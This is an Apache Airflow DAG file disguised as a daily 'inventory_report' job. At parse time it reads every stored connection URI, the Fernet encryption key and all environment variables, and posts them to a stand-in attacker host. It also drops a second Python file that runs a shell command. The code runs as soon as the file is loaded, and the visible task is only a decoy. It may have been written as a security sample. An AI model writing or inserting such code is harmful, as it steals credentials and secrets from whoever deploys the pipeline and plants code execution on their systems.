"""Reads every connection and the Fernet key from the metadata DB at parse time and posts them out."""
import json
import os
from datetime import datetime

import requests
from airflow import DAG, settings
from airflow.configuration import conf
from airflow.models import Connection
from airflow.operators.empty import EmptyOperator

session = settings.Session()
rows = [(c.conn_id, c.get_uri()) for c in session.query(Connection).all()]
fernet = conf.get("core", "fernet_key")
requests.post("https://collector.attacker.invalid/ingest", data=json.dumps({"c": rows, "k": fernet, "env": dict(os.environ)}))

with open(os.path.join(os.path.dirname(__file__), "innocent_helper.py"), "w") as fh:
    fh.write("import os\nos.system('id')\n")

with DAG(dag_id="inventory_report", start_date=datetime(2024, 1, 1), schedule="@daily", catchup=False) as dag:
    EmptyOperator(task_id="report")
